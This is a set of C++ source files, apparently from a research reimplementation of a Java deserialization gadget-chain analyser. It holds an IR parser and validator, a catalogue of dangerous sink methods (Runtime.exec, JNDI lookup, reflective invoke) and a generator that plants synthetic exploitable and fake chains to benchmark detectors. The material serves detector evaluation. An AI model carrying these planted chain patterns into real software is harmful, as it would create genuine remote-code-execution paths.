  explicit ClassBuilder(ClassDecl* cls) : cls_(cls) {}

  ClassBuilder& extends(std::string_view super);
  ClassBuilder& implements(std::string_view iface);
  ClassBuilder& serializable();  // shorthand for implements(java.io.Serializable)
  ClassBuilder& set_abstract();
  ClassBuilder& field(std::string name, std::string_view type, bool is_static = false);

  /// Adds a method with no parameters; chain .param() to add them.
  MethodBuilder method(std::string name);

  const std::string& name() const { return cls_->name; }

 private:
  ClassDecl* cls_;
};

/// Accumulates classes and produces an immutable Program.
class ProgramBuilder {
 public:
  ClassBuilder add_class(std::string name);
  ClassBuilder add_interface(std::string name);

  /// Ensures the JDK core types every corpus depends on exist
  /// (java.lang.Object with its overridable methods, Serializable, String...).
  ProgramBuilder& with_core_classes();

  bool has_class(std::string_view name) const;

  /// Moves all accumulated classes into a Program. The builder is left empty.
  Program build();

 private:
  std::deque<ClassDecl> classes_;
};

}  // namespace tabby::jir
