// Parser for the textual JIR surface syntax (the inverse of jir/printer).
// Used by tests, by the quickstart example, and wherever a corpus is easier
// to express as text than through the builder API. Failure is reported via
// Result — malformed text is expected input, not a programming error.
#pragma once

#include <string_view>

#include "jir/model.hpp"
#include "util/result.hpp"

namespace tabby::jir {

/// Parses a whole translation unit (any number of class/interface decls).
util::Result<Program> parse_program(std::string_view text);

/// Parses a single statement line (without the trailing ';').
util::Result<Stmt> parse_stmt(std::string_view text);

}  // namespace tabby::jir
