#include "jir/validate.hpp"

#include <unordered_set>

#include "util/strings.hpp"
#include "util/thread_pool.hpp"

namespace tabby::jir {

namespace {

bool is_param_or_this(const std::string& var) {
  return var == kThisVar || util::starts_with(var, "@p");
}

class MethodValidator {
 public:
  MethodValidator(const Program& program, const ClassDecl& cls, const Method& method,
                  bool allow_phantom, std::vector<ValidationIssue>& issues)
      : program_(program), cls_(cls), method_(method), allow_phantom_(allow_phantom),
        issues_(issues) {}

  void run() {
    collect_labels_and_defs();
    for (const Stmt& stmt : method_.body) std::visit(*this, stmt);
  }

  void operator()(const AssignStmt& s) { use(s.source); }
  void operator()(const ConstStmt&) {}
  void operator()(const NewStmt& s) { check_class(s.type.name); }
  void operator()(const FieldStoreStmt& s) {
    use(s.base);
    use(s.source);
  }
  void operator()(const FieldLoadStmt& s) { use(s.base); }
  void operator()(const StaticStoreStmt& s) {
    check_class(s.owner);
    use(s.source);
  }
  void operator()(const StaticLoadStmt& s) { check_class(s.owner); }
  void operator()(const ArrayStoreStmt& s) {
    use(s.base);
    use(s.index);
    use(s.source);
  }
  void operator()(const ArrayLoadStmt& s) {
    use(s.base);
    use(s.index);
  }
  void operator()(const CastStmt& s) {
    check_class(s.type.name);
    use(s.source);
  }
  void operator()(const ReturnStmt& s) {
    if (!s.value.empty()) use(s.value);
    if (s.value.empty() && !method_.ret.is_void()) {
      issue("void return in non-void method");
    }
  }
  void operator()(const InvokeStmt& s) {
    check_class(s.callee.owner);
    if (s.kind == InvokeKind::Static) {
      if (!s.base.empty()) issue("static invoke must not have a receiver");
    } else {
      if (s.base.empty()) {
        issue("instance invoke needs a receiver: " + s.callee.to_string());
      } else {
        use(s.base);
      }
    }
    if (static_cast<int>(s.args.size()) != s.callee.nargs) {
      issue("arg count mismatch calling " + s.callee.to_string());
    }
    for (const std::string& arg : s.args) use(arg);
  }
  void operator()(const IfStmt& s) {
    use(s.lhs);
    use(s.rhs);
    check_label(s.target_label);
  }
  void operator()(const GotoStmt& s) { check_label(s.target_label); }
  void operator()(const LabelStmt&) {}
  void operator()(const ThrowStmt& s) { use(s.value); }
  void operator()(const NopStmt&) {}

 private:
  void collect_labels_and_defs() {
    for (const Stmt& stmt : method_.body) {
      if (const auto* label = std::get_if<LabelStmt>(&stmt)) labels_.insert(label->name);
      if (const auto* a = std::get_if<AssignStmt>(&stmt)) defs_.insert(a->target);
      if (const auto* c = std::get_if<ConstStmt>(&stmt)) defs_.insert(c->target);
      if (const auto* n = std::get_if<NewStmt>(&stmt)) defs_.insert(n->target);
      if (const auto* f = std::get_if<FieldLoadStmt>(&stmt)) defs_.insert(f->target);
      if (const auto* sl = std::get_if<StaticLoadStmt>(&stmt)) defs_.insert(sl->target);
      if (const auto* al = std::get_if<ArrayLoadStmt>(&stmt)) defs_.insert(al->target);
      if (const auto* cast = std::get_if<CastStmt>(&stmt)) defs_.insert(cast->target);
      if (const auto* inv = std::get_if<InvokeStmt>(&stmt)) {
        if (!inv->target.empty()) defs_.insert(inv->target);
      }
    }
  }

  void use(const std::string& var) {
    if (var.empty()) {
      issue("empty variable reference");
      return;
    }
    if (is_param_or_this(var)) {
      if (var == kThisVar && method_.mods.is_static) issue("@this used in static method");
      if (util::starts_with(var, "@p")) {
        int index = std::atoi(var.c_str() + 2);
        if (index < 1 || index > method_.nargs()) issue("parameter out of range: " + var);
      }
      return;
    }
    if (defs_.find(var) == defs_.end()) issue("use of undefined variable: " + var);
  }

  void check_label(const std::string& label) {
    if (labels_.find(label) == labels_.end()) issue("jump to undefined label: " + label);
  }

  void check_class(const std::string& name) {
    if (!allow_phantom_ && program_.find_class(name) == nullptr) {
      issue("reference to unknown class: " + name);
    }
  }

  void issue(std::string message) {
    issues_.push_back(ValidationIssue{cls_.name, method_.name, std::move(message)});
  }

  const Program& program_;
  const ClassDecl& cls_;
  const Method& method_;
  bool allow_phantom_;
  std::vector<ValidationIssue>& issues_;
  std::unordered_set<std::string> labels_;
  std::unordered_set<std::string> defs_;
};

}  // namespace

std::vector<ValidationIssue> validate(const Program& program, bool allow_phantom_classes,
                                      util::Executor* executor) {
  const std::vector<ClassDecl>& classes = program.classes();
  std::vector<std::vector<ValidationIssue>> per_class(classes.size());
  util::run_indexed(executor, classes.size(), [&](std::size_t ci) {
    const ClassDecl& cls = classes[ci];
    std::vector<ValidationIssue>& issues = per_class[ci];
    if (!cls.super.empty() && !allow_phantom_classes &&
        program.find_class(cls.super) == nullptr) {
      issues.push_back(ValidationIssue{cls.name, "", "unknown superclass: " + cls.super});
    }
    std::unordered_set<std::string> method_sigs;
    for (const Method& m : cls.methods) {
      std::string sig = m.name + "/" + std::to_string(m.nargs());
      if (!method_sigs.insert(sig).second) {
        issues.push_back(ValidationIssue{cls.name, m.name, "duplicate method signature " + sig});
      }
      MethodValidator(program, cls, m, allow_phantom_classes, issues).run();
    }
  });
  std::vector<ValidationIssue> issues;
  for (std::vector<ValidationIssue>& chunk : per_class) {
    for (ValidationIssue& found : chunk) issues.push_back(std::move(found));
  }
  return issues;
}

}  // namespace tabby::jir
