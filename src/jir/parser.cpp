#include "jir/parser.hpp"

#include <cctype>
#include <cstdlib>
#include <stdexcept>

namespace tabby::jir {

namespace {

using util::Error;
using util::Result;

enum class TokKind { Word, Int, Str, Sym, End };

struct Token {
  TokKind kind = TokKind::End;
  std::string text;       // word text / symbol text
  std::int64_t int_value = 0;
  std::size_t line = 0;
};

bool is_word_char(char c) {
  return std::isalnum(static_cast<unsigned char>(c)) || c == '_' || c == '$' || c == '@';
}

/// Hand-rolled lexer. Dots are folded into words only when surrounded by word
/// characters, so "a.f = b" lexes as ["a.f", "=", "b"] while "b.<X#m/0>"
/// lexes as ["b", ".", "<", ...].
class Lexer {
 public:
  explicit Lexer(std::string_view text) : text_(text) {}

  Result<std::vector<Token>> lex() {
    std::vector<Token> out;
    while (true) {
      skip_space_and_comments();
      if (pos_ >= text_.size()) break;
      char c = text_[pos_];
      if (is_word_char(c)) {
        out.push_back(lex_word());
      } else if (c == '"') {
        auto tok = lex_string();
        if (!tok.ok()) return tok.error();
        out.push_back(std::move(tok.value()));
      } else if (c == '-' && pos_ + 1 < text_.size() &&
                 std::isdigit(static_cast<unsigned char>(text_[pos_ + 1]))) {
        out.push_back(lex_word());  // negative integer literal
      } else {
        out.push_back(lex_symbol());
      }
    }
    out.push_back(Token{TokKind::End, "", 0, line_});
    return out;
  }

 private:
  void skip_space_and_comments() {
    while (pos_ < text_.size()) {
      char c = text_[pos_];
      if (c == '\n') {
        ++line_;
        ++pos_;
      } else if (std::isspace(static_cast<unsigned char>(c))) {
        ++pos_;
      } else if (c == '/' && pos_ + 1 < text_.size() && text_[pos_ + 1] == '/') {
        while (pos_ < text_.size() && text_[pos_] != '\n') ++pos_;
      } else {
        break;
      }
    }
  }

  Token lex_word() {
    std::size_t start = pos_;
    if (text_[pos_] == '-') ++pos_;  // sign of a negative literal
    while (pos_ < text_.size()) {
      char c = text_[pos_];
      if (is_word_char(c)) {
        ++pos_;
      } else if (c == '.' && pos_ + 1 < text_.size() && is_word_char(text_[pos_ + 1]) &&
                 pos_ > start && is_word_char(text_[pos_ - 1])) {
        ++pos_;
      } else {
        break;
      }
    }
    std::string word(text_.substr(start, pos_ - start));
    // Pure (possibly negative) integer literals become Int tokens.
    bool numeric = !word.empty();
    for (std::size_t i = (word[0] == '-' ? 1 : 0); i < word.size(); ++i) {
      if (!std::isdigit(static_cast<unsigned char>(word[i]))) {
        numeric = false;
        break;
      }
    }
    if (word == "-") numeric = false;
    if (numeric) {
      return Token{TokKind::Int, word, std::strtoll(word.c_str(), nullptr, 10), line_};
    }
    return Token{TokKind::Word, std::move(word), 0, line_};
  }

  Result<Token> lex_string() {
    ++pos_;  // opening quote
    std::string value;
    while (pos_ < text_.size() && text_[pos_] != '"') {
      char c = text_[pos_++];
      if (c == '\\' && pos_ < text_.size()) c = text_[pos_++];
      if (c == '\n') ++line_;
      value.push_back(c);
    }
    if (pos_ >= text_.size()) return Error{"unterminated string literal", line_};
    ++pos_;  // closing quote
    return Token{TokKind::Str, std::move(value), 0, line_};
  }

  Token lex_symbol() {
    // Two-character comparison operators first.
    static constexpr std::string_view kTwoChar[] = {"==", "!=", "<=", ">="};
    for (std::string_view two : kTwoChar) {
      if (text_.substr(pos_, 2) == two) {
        pos_ += 2;
        return Token{TokKind::Sym, std::string(two), 0, line_};
      }
    }
    char c = text_[pos_++];
    return Token{TokKind::Sym, std::string(1, c), 0, line_};
  }

  std::string_view text_;
  std::size_t pos_ = 0;
  std::size_t line_ = 1;
};

/// Recursive-descent parser over the token stream.
class Parser {
 public:
  explicit Parser(std::vector<Token> tokens) : tokens_(std::move(tokens)) {}

  Result<Program> parse_program() {
    Program program;
    while (!at_end()) {
      auto cls = parse_class();
      if (!cls.ok()) return cls.error();
      try {
        program.add_class(std::move(cls.value()));
      } catch (const std::invalid_argument& e) {
        return Error{e.what(), line()};
      }
    }
    return program;
  }

  Result<Stmt> parse_single_stmt() {
    auto s = parse_stmt();
    if (!s.ok()) return s.error();
    if (peek().kind == TokKind::Sym && peek().text == ";") advance();
    if (!at_end()) return Error{"trailing tokens after statement", line()};
    return s;
  }

 private:
  const Token& peek(std::size_t ahead = 0) const {
    std::size_t i = pos_ + ahead;
    return i < tokens_.size() ? tokens_[i] : tokens_.back();
  }
  const Token& advance() { return tokens_[pos_ < tokens_.size() - 1 ? pos_++ : pos_]; }
  bool at_end() const { return peek().kind == TokKind::End; }
  std::size_t line() const { return peek().line; }

  bool match_sym(std::string_view sym) {
    if (peek().kind == TokKind::Sym && peek().text == sym) {
      advance();
      return true;
    }
    return false;
  }

  bool match_word(std::string_view word) {
    if (peek().kind == TokKind::Word && peek().text == word) {
      advance();
      return true;
    }
    return false;
  }

  Result<std::string> expect_word(std::string_view what) {
    if (peek().kind != TokKind::Word) {
      return Error{"expected " + std::string(what) + ", got '" + peek().text + "'", line()};
    }
    return advance().text;
  }

  /// A method name: a plain word, or the JVM special forms "<init>" /
  /// "<clinit>" which lex as three tokens.
  Result<std::string> expect_method_name(std::string_view what) {
    if (peek().kind == TokKind::Sym && peek().text == "<" && peek(1).kind == TokKind::Word &&
        peek(2).kind == TokKind::Sym && peek(2).text == ">") {
      advance();
      std::string name = "<" + advance().text + ">";
      advance();
      return name;
    }
    return expect_word(what);
  }

  util::Status expect_sym(std::string_view sym) {
    if (!match_sym(sym)) {
      return Error{"expected '" + std::string(sym) + "', got '" + peek().text + "'", line()};
    }
    return util::Status::ok_status();
  }

  Result<Type> parse_type_tokens() {
    auto name = expect_word("type name");
    if (!name.ok()) return name.error();
    int dims = 0;
    while (peek().kind == TokKind::Sym && peek().text == "[" && peek(1).kind == TokKind::Sym &&
           peek(1).text == "]") {
      advance();
      advance();
      ++dims;
    }
    return Type{std::move(name.value()), dims};
  }

  Result<Modifiers> parse_modifiers(bool& is_interface_kw, bool& saw_decl_kw) {
    Modifiers mods;
    is_interface_kw = false;
    saw_decl_kw = false;
    while (peek().kind == TokKind::Word) {
      const std::string& w = peek().text;
      if (w == "public") {
        mods.is_public = true;
      } else if (w == "private" || w == "protected") {
        mods.is_public = false;
      } else if (w == "static") {
        mods.is_static = true;
      } else if (w == "abstract") {
        mods.is_abstract = true;
      } else if (w == "final") {
        mods.is_final = true;
      } else if (w == "native") {
        mods.is_native = true;
      } else {
        break;
      }
      advance();
    }
    return mods;
  }

  Result<ClassDecl> parse_class() {
    bool unused_a = false, unused_b = false;
    auto mods = parse_modifiers(unused_a, unused_b);
    if (!mods.ok()) return mods.error();

    ClassDecl cls;
    cls.mods = mods.value();
    if (match_word("interface")) {
      cls.is_interface = true;
      cls.mods.is_abstract = true;
    } else if (!match_word("class")) {
      return Error{"expected 'class' or 'interface', got '" + peek().text + "'", line()};
    }

    auto name = expect_word("class name");
    if (!name.ok()) return name.error();
    cls.name = std::move(name.value());

    if (match_word("extends")) {
      if (cls.is_interface) {
        // Interfaces may extend several interfaces.
        do {
          auto super = expect_word("interface name");
          if (!super.ok()) return super.error();
          cls.interfaces.push_back(std::move(super.value()));
        } while (match_sym(","));
      } else {
        auto super = expect_word("superclass name");
        if (!super.ok()) return super.error();
        cls.super = std::move(super.value());
      }
    } else if (!cls.is_interface && cls.name != kObjectClass) {
      cls.super = std::string(kObjectClass);
    }
    if (match_word("implements")) {
      do {
        auto iface = expect_word("interface name");
        if (!iface.ok()) return iface.error();
        cls.interfaces.push_back(std::move(iface.value()));
      } while (match_sym(","));
    }

    if (auto s = expect_sym("{"); !s.ok()) return s.error();
    while (!match_sym("}")) {
      if (at_end()) return Error{"unterminated class body for " + cls.name, line()};
      auto member_status = parse_member(cls);
      if (!member_status.ok()) return member_status.error();
    }
    return cls;
  }

  util::Status parse_member(ClassDecl& cls) {
    bool unused_a = false, unused_b = false;
    auto mods = parse_modifiers(unused_a, unused_b);
    if (!mods.ok()) return mods.error();

    if (match_word("field")) {
      auto type = parse_type_tokens();
      if (!type.ok()) return type.error();
      auto name = expect_word("field name");
      if (!name.ok()) return name.error();
      if (auto s = expect_sym(";"); !s.ok()) return s;
      cls.fields.push_back(Field{std::move(name.value()), std::move(type.value()), mods.value()});
      return util::Status::ok_status();
    }
    if (match_word("method")) {
      Method m;
      m.mods = mods.value();
      auto name = expect_method_name("method name");
      if (!name.ok()) return name.error();
      m.name = std::move(name.value());
      if (auto s = expect_sym("("); !s.ok()) return s;
      if (!match_sym(")")) {
        do {
          auto type = parse_type_tokens();
          if (!type.ok()) return type.error();
          m.params.push_back(std::move(type.value()));
        } while (match_sym(","));
        if (auto s = expect_sym(")"); !s.ok()) return s;
      }
      if (auto s = expect_sym(":"); !s.ok()) return s;
      auto ret = parse_type_tokens();
      if (!ret.ok()) return ret.error();
      m.ret = std::move(ret.value());

      if (match_sym(";")) {
        if (!m.mods.is_native && !cls.is_interface) m.mods.is_abstract = true;
        cls.methods.push_back(std::move(m));
        return util::Status::ok_status();
      }
      if (auto s = expect_sym("{"); !s.ok()) return s;
      while (!match_sym("}")) {
        if (at_end()) return Error{"unterminated method body for " + m.name, line()};
        auto stmt = parse_stmt();
        if (!stmt.ok()) return stmt.error();
        if (auto s = expect_sym(";"); !s.ok()) return s;
        m.body.push_back(std::move(stmt.value()));
      }
      cls.methods.push_back(std::move(m));
      return util::Status::ok_status();
    }
    return Error{"expected 'field' or 'method', got '" + peek().text + "'", line()};
  }

  Result<InvokeKind> parse_invoke_kind(const std::string& word) {
    if (word == "virtualinvoke") return InvokeKind::Virtual;
    if (word == "staticinvoke") return InvokeKind::Static;
    if (word == "specialinvoke") return InvokeKind::Special;
    if (word == "interfaceinvoke") return InvokeKind::Interface;
    return Error{"unknown invoke kind: " + word, line()};
  }

  bool is_invoke_keyword(const Token& tok) const {
    return tok.kind == TokKind::Word &&
           (tok.text == "virtualinvoke" || tok.text == "staticinvoke" ||
            tok.text == "specialinvoke" || tok.text == "interfaceinvoke");
  }

  /// Parses "<Owner#name/n>(a, b)" with optional "base." prefix already
  /// consumed. `base` is empty for static invokes.
  Result<InvokeStmt> parse_invoke_tail(std::string target, InvokeKind kind, std::string base) {
    if (auto s = expect_sym("<"); !s.ok()) return s.error();
    auto owner = expect_word("callee owner");
    if (!owner.ok()) return owner.error();
    if (auto s = expect_sym("#"); !s.ok()) return s.error();
    auto name = expect_method_name("callee name");
    if (!name.ok()) return name.error();
    if (auto s = expect_sym("/"); !s.ok()) return s.error();
    if (peek().kind != TokKind::Int) return Error{"expected arg count", line()};
    int nargs = static_cast<int>(advance().int_value);
    if (auto s = expect_sym(">"); !s.ok()) return s.error();
    if (auto s = expect_sym("("); !s.ok()) return s.error();
    std::vector<std::string> args;
    if (!match_sym(")")) {
      do {
        auto arg = expect_word("argument variable");
        if (!arg.ok()) return arg.error();
        args.push_back(std::move(arg.value()));
      } while (match_sym(","));
      if (auto s = expect_sym(")"); !s.ok()) return s.error();
    }
    if (static_cast<int>(args.size()) != nargs) {
      return Error{"arg count mismatch in invoke of " + name.value(), line()};
    }
    return InvokeStmt{std::move(target), kind,
                      MethodRef{std::move(owner.value()), std::move(name.value()), nargs},
                      std::move(base), std::move(args)};
  }

  Result<CmpOp> parse_cmp_op() {
    if (peek().kind != TokKind::Sym) return Error{"expected comparison operator", line()};
    std::string op = advance().text;
    if (op == "==") return CmpOp::Eq;
    if (op == "!=") return CmpOp::Ne;
    if (op == "<") return CmpOp::Lt;
    if (op == ">") return CmpOp::Gt;
    if (op == "<=") return CmpOp::Le;
    if (op == ">=") return CmpOp::Ge;
    return Error{"unknown comparison operator: " + op, line()};
  }

  Result<Stmt> parse_stmt() {
    // Keyword-led statements.
    if (match_word("return")) {
      if (peek().kind == TokKind::Word) return Stmt{ReturnStmt{advance().text}};
      return Stmt{ReturnStmt{}};
    }
    if (match_word("goto")) {
      auto label = expect_word("label");
      if (!label.ok()) return label.error();
      return Stmt{GotoStmt{std::move(label.value())}};
    }
    if (match_word("label")) {
      auto label = expect_word("label");
      if (!label.ok()) return label.error();
      return Stmt{LabelStmt{std::move(label.value())}};
    }
    if (match_word("throw")) {
      auto value = expect_word("variable");
      if (!value.ok()) return value.error();
      return Stmt{ThrowStmt{std::move(value.value())}};
    }
    if (match_word("nop")) return Stmt{NopStmt{}};
    if (match_word("if")) {
      auto lhs = expect_word("variable");
      if (!lhs.ok()) return lhs.error();
      auto op = parse_cmp_op();
      if (!op.ok()) return op.error();
      auto rhs = expect_word("variable");
      if (!rhs.ok()) return rhs.error();
      if (!match_word("goto")) return Error{"expected 'goto' in if statement", line()};
      auto label = expect_word("label");
      if (!label.ok()) return label.error();
      return Stmt{IfStmt{std::move(lhs.value()), op.value(), std::move(rhs.value()),
                         std::move(label.value())}};
    }
    if (match_word("staticput")) {
      auto target = expect_word("Class.field");
      if (!target.ok()) return target.error();
      std::size_t dot = target.value().rfind('.');
      if (dot == std::string::npos) return Error{"staticput needs Class.field", line()};
      if (auto s = expect_sym("="); !s.ok()) return s.error();
      auto source = expect_word("variable");
      if (!source.ok()) return source.error();
      return Stmt{StaticStoreStmt{target.value().substr(0, dot), target.value().substr(dot + 1),
                                  std::move(source.value())}};
    }
    if (is_invoke_keyword(peek())) {
      return parse_invoke_stmt("");
    }

    // Everything else starts with an lvalue word.
    auto first = expect_word("statement");
    if (!first.ok()) return first.error();
    std::string lhs = std::move(first.value());

    // a[i] = b
    if (match_sym("[")) {
      auto index = expect_word("index variable");
      if (!index.ok()) return index.error();
      if (auto s = expect_sym("]"); !s.ok()) return s.error();
      if (auto s = expect_sym("="); !s.ok()) return s.error();
      auto source = expect_word("variable");
      if (!source.ok()) return source.error();
      return Stmt{ArrayStoreStmt{std::move(lhs), std::move(index.value()),
                                 std::move(source.value())}};
    }

    // a.f = b (field store; base is a local so exactly one dot)
    std::size_t dot = lhs.rfind('.');
    if (dot != std::string::npos) {
      if (auto s = expect_sym("="); !s.ok()) return s.error();
      auto source = expect_word("variable");
      if (!source.ok()) return source.error();
      return Stmt{FieldStoreStmt{lhs.substr(0, dot), lhs.substr(dot + 1),
                                 std::move(source.value())}};
    }

    if (auto s = expect_sym("="); !s.ok()) return s.error();
    return parse_rhs(std::move(lhs));
  }

  Result<Stmt> parse_invoke_stmt(std::string target) {
    auto kind = parse_invoke_kind(advance().text);
    if (!kind.ok()) return kind.error();
    std::string base;
    if (kind.value() != InvokeKind::Static) {
      auto base_word = expect_word("invoke receiver");
      if (!base_word.ok()) return base_word.error();
      base = std::move(base_word.value());
      if (auto s = expect_sym("."); !s.ok()) return s.error();
    }
    auto inv = parse_invoke_tail(std::move(target), kind.value(), std::move(base));
    if (!inv.ok()) return inv.error();
    return Stmt{std::move(inv.value())};
  }

  Result<Stmt> parse_rhs(std::string target) {
    // a = <int> / "str" / null
    if (peek().kind == TokKind::Int) {
      return Stmt{ConstStmt{std::move(target), Const::of(advance().int_value)}};
    }
    if (peek().kind == TokKind::Str) {
      return Stmt{ConstStmt{std::move(target), Const::of(advance().text)}};
    }
    if (match_word("null")) return Stmt{ConstStmt{std::move(target), Const::null()}};

    // a = new T
    if (match_word("new")) {
      auto type = parse_type_tokens();
      if (!type.ok()) return type.error();
      return Stmt{NewStmt{std::move(target), std::move(type.value())}};
    }
    // a = staticget T.f
    if (match_word("staticget")) {
      auto word = expect_word("Class.field");
      if (!word.ok()) return word.error();
      std::size_t dot = word.value().rfind('.');
      if (dot == std::string::npos) return Error{"staticget needs Class.field", line()};
      return Stmt{StaticLoadStmt{std::move(target), word.value().substr(0, dot),
                                 word.value().substr(dot + 1)}};
    }
    // a = (T) b
    if (match_sym("(")) {
      auto type = parse_type_tokens();
      if (!type.ok()) return type.error();
      if (auto s = expect_sym(")"); !s.ok()) return s.error();
      auto source = expect_word("variable");
      if (!source.ok()) return source.error();
      return Stmt{CastStmt{std::move(target), std::move(type.value()),
                           std::move(source.value())}};
    }
    // a = <kind>invoke ...
    if (is_invoke_keyword(peek())) {
      return parse_invoke_stmt(std::move(target));
    }

    // a = b / b.f / b[i]
    auto source = expect_word("rvalue");
    if (!source.ok()) return source.error();
    std::string rhs = std::move(source.value());
    if (match_sym("[")) {
      auto index = expect_word("index variable");
      if (!index.ok()) return index.error();
      if (auto s = expect_sym("]"); !s.ok()) return s.error();
      return Stmt{ArrayLoadStmt{std::move(target), std::move(rhs), std::move(index.value())}};
    }
    std::size_t dot = rhs.rfind('.');
    if (dot != std::string::npos) {
      return Stmt{FieldLoadStmt{std::move(target), rhs.substr(0, dot), rhs.substr(dot + 1)}};
    }
    return Stmt{AssignStmt{std::move(target), std::move(rhs)}};
  }

  std::vector<Token> tokens_;
  std::size_t pos_ = 0;
};

}  // namespace

Result<Program> parse_program(std::string_view text) {
  auto tokens = Lexer(text).lex();
  if (!tokens.ok()) return tokens.error();
  return Parser(std::move(tokens.value())).parse_program();
}

Result<Stmt> parse_stmt(std::string_view text) {
  auto tokens = Lexer(text).lex();
  if (!tokens.ok()) return tokens.error();
  return Parser(std::move(tokens.value())).parse_single_stmt();
}

}  // namespace tabby::jir
