// The shared "JDK" base archive every synthetic component links against:
// java.lang core types plus the sink-bearing classes of Table VII
// (Runtime, reflect.Method, naming.Context, Files, DocumentBuilder, ...).
// This plays the role of rt.jar on the paper's analysis classpath.
#pragma once

#include "jar/archive.hpp"

namespace tabby::corpus {

/// Deterministic: same archive every call.
jar::Archive jdk_base_archive();

/// Identifier of a sink flavour used by the corpus planters.
enum class SinkFlavor {
  Exec,           // java.lang.Runtime#exec/1            TC [1]
  Invoke,         // java.lang.reflect.Method#invoke/2   TC [0,1]
  JndiLookup,     // javax.naming.Context#lookup/1       TC [1]
  FileWrite,      // java.nio.file.Files#newOutputStream TC [1]
  XmlParse,       // javax.xml.parsers.DocumentBuilder#parse TC [1]
  SqlConnection,  // javax.sql.DataSource#getConnection  TC [0]
  Dns,            // java.net.InetAddress#getByName/1    TC [1]
};

inline constexpr SinkFlavor kAllSinkFlavors[] = {
    SinkFlavor::Exec,       SinkFlavor::Invoke,        SinkFlavor::JndiLookup,
    SinkFlavor::FileWrite,  SinkFlavor::XmlParse,      SinkFlavor::SqlConnection,
    SinkFlavor::Dns};

/// "owner#name/nargs" of the flavour's sink method.
std::string sink_signature(SinkFlavor flavor);

}  // namespace tabby::corpus
