#include "corpus/components.hpp"

#include <stdexcept>

#include "corpus/jdk.hpp"
#include "corpus/noise.hpp"
#include "corpus/planter.hpp"

namespace tabby::corpus {

namespace {

struct ComponentSpec {
  const char* name;
  const char* pkg;
  int known_plain = 0;         // GI-visible known chains (disjoint helpers)
  int known_plain_shared = 0;  // plain knowns sharing one helper (GI keeps 1)
  int known_iface = 0;         // interface-hop knowns (GI/SL-blind)
  int known_refl = 0;          // reflection-gated (nobody finds)
  int unknown_plain = 0;
  int unknown_iface = 0;
  int guarded = 0;             // everyone-visible-to-Tabby fakes
  int wipe = 0;                // GI/SL-visible fakes Tabby rejects
  int web = 0;                 // SL-only const-web volume
  bool sl_explodes = false;
  int noise = 120;
};

// Counts derived from Table IX (see DESIGN.md): "known" splits sum to the
// "Known in dataset" column; guarded = TB Fake; wipe ≈ GI Fake; web sized
// toward the SL Result column.
const ComponentSpec kSpecs[] = {
    {"AspectJWeaver", "org.aspectj.weaver", 0, 0, 1, 0, 0, 0, 0, 8, 19, false, 110},
    {"BeanShell1", "bsh", 0, 0, 1, 0, 0, 0, 2, 2, 0, false, 90},
    {"C3P0", "com.mchange.v2.c3p0", 0, 0, 1, 0, 0, 3, 2, 2, 0, false, 130},
    {"Click1", "org.apache.click", 1, 0, 0, 0, 0, 0, 0, 3, 53, false, 100},
    {"Clojure", "clojure.lang", 1, 0, 0, 0, 0, 0, 1, 8, 0, true, 140},
    {"CommonsBeanutils1", "org.apache.commons.beanutils", 0, 0, 1, 0, 0, 0, 0, 2, 48, false, 95},
    {"commons-collections(3.2.1)", "org.apache.commons.collections", 0, 0, 4, 1, 1, 8, 4, 3, 66,
     false, 160},
    {"commons-collections(4.0.0)", "org.apache.commons.collections4", 0, 0, 1, 1, 1, 11, 5, 3, 30,
     false, 150},
    {"FileUpload1", "org.apache.commons.fileupload", 0, 2, 0, 0, 0, 0, 0, 2, 2, false, 70},
    {"Groovy1", "org.codehaus.groovy.runtime", 0, 0, 0, 1, 0, 0, 2, 4, 131, false, 140},
    {"Hibernate", "org.hibernate", 0, 0, 2, 0, 0, 2, 0, 2, 53, false, 170},
    {"JBossInterceptors1", "org.jboss.interceptor", 0, 0, 1, 0, 0, 0, 2, 2, 3, false, 85},
    {"JSON1", "net.sf.json", 0, 0, 0, 1, 0, 0, 0, 4, 0, false, 80},
    {"JavaassistWeld1", "org.jboss.weld", 0, 0, 1, 0, 0, 0, 2, 2, 0, false, 85},
    {"Jython1", "org.python.core", 0, 0, 0, 1, 0, 0, 2, 42, 0, true, 150},
    {"MozillaRhino", "org.mozilla.javascript", 0, 0, 1, 1, 0, 0, 0, 3, 90, false, 130},
    {"Myface", "org.apache.myfaces", 0, 0, 1, 0, 0, 0, 0, 2, 0, false, 75},
    {"Rome", "com.rometools.rome", 0, 0, 1, 0, 0, 1, 0, 2, 16, false, 90},
    {"Spring", "org.springframework.core", 0, 0, 0, 2, 0, 0, 2, 2, 2, false, 120},
    {"Vaadin1", "com.vaadin", 1, 0, 0, 0, 0, 0, 0, 5, 13, false, 100},
    {"Wicket1", "org.apache.wicket", 0, 2, 0, 0, 0, 0, 0, 2, 1, false, 95},
    {"commons-configration", "org.apache.commons.configuration", 0, 0, 0, 1, 0, 0, 0, 2, 0, false,
     80},
    {"spring-beans", "org.springframework.beans", 0, 0, 1, 1, 0, 0, 1, 2, 0, false, 110},
    {"spring-aop", "org.springframework.aop", 0, 0, 1, 1, 0, 0, 1, 6, 0, false, 110},
    {"XBean", "org.apache.xbean", 0, 0, 1, 0, 0, 0, 0, 2, 0, false, 70},
    {"Resin", "com.caucho", 0, 0, 0, 1, 0, 0, 0, 2, 0, false, 85},
};

std::uint64_t seed_of(const ComponentSpec& spec) {
  // FNV-1a over the name: deterministic and name-stable.
  std::uint64_t h = 1469598103934665603ULL;
  for (const char* p = spec.name; *p != '\0'; ++p) {
    h ^= static_cast<unsigned char>(*p);
    h *= 1099511628211ULL;
  }
  return h;
}

SinkFlavor pick_flavor(util::Rng& rng) {
  return kAllSinkFlavors[rng.next_below(std::size(kAllSinkFlavors))];
}

Component build_from_spec(const ComponentSpec& spec) {
  jir::ProgramBuilder pb;
  Planter planter(pb, spec.pkg, seed_of(spec));
  util::Rng& rng = planter.rng();

  Component component;
  component.name = spec.name;
  component.sl_explodes = spec.sl_explodes;

  for (int i = 0; i < spec.known_plain; ++i) {
    RealChainOptions options;
    options.sink = pick_flavor(rng);
    component.truths.push_back(planter.plant_real_chain(options));
  }
  if (spec.known_plain_shared > 0) {
    SinkFlavor flavor = pick_flavor(rng);
    std::string helper = planter.make_plain_helper(flavor);
    for (int i = 0; i < spec.known_plain_shared; ++i) {
      RealChainOptions options;
      options.sink = flavor;
      options.shared_helper = helper;
      component.truths.push_back(planter.plant_real_chain(options));
    }
  }
  for (int i = 0; i < spec.known_iface; ++i) {
    RealChainOptions options;
    options.iface = true;
    options.sink = pick_flavor(rng);
    component.truths.push_back(planter.plant_real_chain(options));
  }
  for (int i = 0; i < spec.known_refl; ++i) {
